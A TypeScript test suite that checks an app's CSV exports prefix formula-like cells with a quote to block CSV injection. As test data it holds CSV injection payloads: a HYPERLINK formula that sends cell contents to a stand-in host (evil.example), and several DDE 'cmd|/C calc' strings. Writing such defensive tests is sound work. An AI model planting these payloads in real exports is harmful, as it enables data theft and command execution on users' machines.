import { parse } from 'csv-parse/sync';
import { newIdNumber, newMobile, startApp, TestApp } from '../support/app';
import { activeHousehold } from '../support/aid';
import { createStation } from '../support/stations';
import { auth, idemKey, voucherFixtures } from '../support/vouchers-fixtures';

/**
 * Issue 11 item 2: CSV formula injection. Text a user typed (or that was stored before any input
 * rule existed) and that starts with `=`, `+`, `-`, `@`, tab or CR must reach every export neutralised
 * with a leading `'` (OWASP CSV injection), while amounts and ids stay plain numbers.
 */
describe('security: CSV exports neutralise formula cells', () => {
  let t: TestApp;
  let staff: string;
  let fx: ReturnType<typeof voucherFixtures>;
  const rows = (text: string): string[][] => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });

  beforeAll(async () => {
    t = await startApp();
    staff = await t.login('csv-staff', 'union_staff', 'HB-HS');
    fx = voucherFixtures(t, staff);
  });
  afterAll(() => t.close());

  it('members export: platform typed as a formula, and a stored name that is one, are written as text', async () => {
    const member = await t.login('csv-member-1');
    const jc = await t.http().post('/api/membership/join-codes').set(auth(staff)).send({ orgCode: 'HB-HS-HSG-WM' });
    const app = await t.http().post('/api/membership/applications').set(auth(member)).send({
      joinCode: jc.body.code, name: '骑手小张', idNumber: newIdNumber(), mobile: newMobile(), occupation: 'food_delivery',
      platform: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', workCity: '+黄石', consent: true,
    });
    expect(app.status).toBe(201);
    const approved = await t.http().post(`/api/membership/applications/${app.body.id}/approve`).set(auth(staff));
    expect(approved.status).toBe(200);
    // data stored before any input rule (or by a path nobody thought of) goes through the same writer
    const [m] = await t.db.query('SELECT id, memberNo FROM members ORDER BY id DESC LIMIT 1');
    await t.db.query(`UPDATE members SET name = '@SUM(1+1)*cmd|''/C calc''!A0' WHERE id = ${m.id}`);

    const csv = await t.http().get('/api/membership/members/export.csv').set(auth(staff));
    expect(csv.status).toBe(200);
    expect(csv.text.startsWith('\uFEFF')).toBe(true);
    const row = rows(csv.text).find((r) => r[0] === m.memberNo)!;
    expect(row).toBeDefined();
    expect(row[1]).toBe("'@SUM(1+1)*cmd|'/C calc'!A0");
    expect(row[5]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
    for (const cell of rows(csv.text).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('settlement export: a merchant named =cmd|… is text; amounts and counts stay numbers', async () => {
    const member = await fx.member();
    const { token: clerk, merchant } = await fx.merchant({ name: "=cmd|' /C calc'!A0" });
    const c = await fx.campaign();
    const claimed = await t.http().post(`/api/vouchers/campaigns/${c.id}/claims`).set(auth(member)).set('Idempotency-Key', idemKey()).send({ voucherTypeId: c.types[0].id });
    expect(claimed.status).toBe(201);
    const code = (await t.http().get(`/api/vouchers/my/vouchers/${claimed.body.id}/code`).set(auth(member))).body.code;
    const redeemed = await t.http().post('/api/vouchers/redemptions').set(auth(clerk)).set('Idempotency-Key', idemKey()).send({ redemptionCode: code, orderAmountFen: 23456 });
    expect(redeemed.status).toBe(201);

    const csv = await t.http().get('/api/vouchers/settlements/export.csv').set(auth(staff));
    expect(csv.status).toBe(200);
    const line = rows(csv.text).find((r) => r[1] === String(merchant.id))!;
    expect(line).toBeDefined();
    expect(line[2]).toBe("'=cmd|' /C calc'!A0");
    expect(line.slice(4)).toEqual(['1', '20.00', '234.56']);
    // the numbers are written bare (not quoted, no leading quote): a spreadsheet reads them as numbers
    expect(csv.text).toContain(',1,20.00,234.56');
    for (const cell of rows(csv.text).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('household export: an address part typed as a formula is text; amounts stay numbers', async () => {
    const staffB = await t.login('csv-staff-b', 'union_staff', 'HB-HS');
    const h = await activeHousehold(t, staff, staffB, { province: '-2+3+cmd|"/C calc"!A0', monthlyIncomeFen: 250_001 });
    const csv = await t.http().get(`/api/aid/households/export.csv?q=${h.body.idNumber}`).set(auth(staff));
    expect(csv.status).toBe(200);
    const [header, row] = rows(csv.text);
    expect(row[header.indexOf('地址')]).toMatch(/^'-2\+3\+cmd\|"\/C calc"!A0/);
    expect(row[header.indexOf('家庭月收入(元)')]).toBe('2500.01');
    expect(csv.text).toContain(',2500.01,');
  });

  it('station export: name, phone and description that look like formulas are text, and export → import round-trips them', async () => {
    const s = await createStation(t, staff, { name: '=1+2 驿站', phone: '+86 714 6200000', description: '@远程' });
    const csv = await t.http().get('/api/stations/export.csv').set(auth(staff));
    expect(csv.status).toBe(200);
    const all = rows(csv.text);
    const header = all[0];
    const row = all.find((r) => r[0] === String(s.id))!;
    expect(row[header.indexOf('name')]).toBe("'=1+2 驿站");
    expect(row[header.indexOf('phone')]).toBe("'+86 714 6200000");
    expect(row[header.indexOf('description')]).toBe("'@远程");
    expect(row[header.indexOf('lat')]).toMatch(/^\d+\.\d+$/);
    // export → import: the neutralising quote is not stored back
    const text = csv.text.replace(/^\uFEFF/, '');
    const lines = text.split('\n');
    const again = await t.http().post('/api/stations/import').set(auth(staff)).send({ csv: [lines[0], lines.find((l) => l.startsWith(`${s.id},`))].join('\n') });
    expect(again.body).toMatchObject({ ok: true, updated: 1 });
    const after = await t.http().get(`/api/stations/${s.id}`);
    expect(after.body.name).toBe('=1+2 驿站');
    expect(after.body.phone).toBe('+86 714 6200000');
  });
});
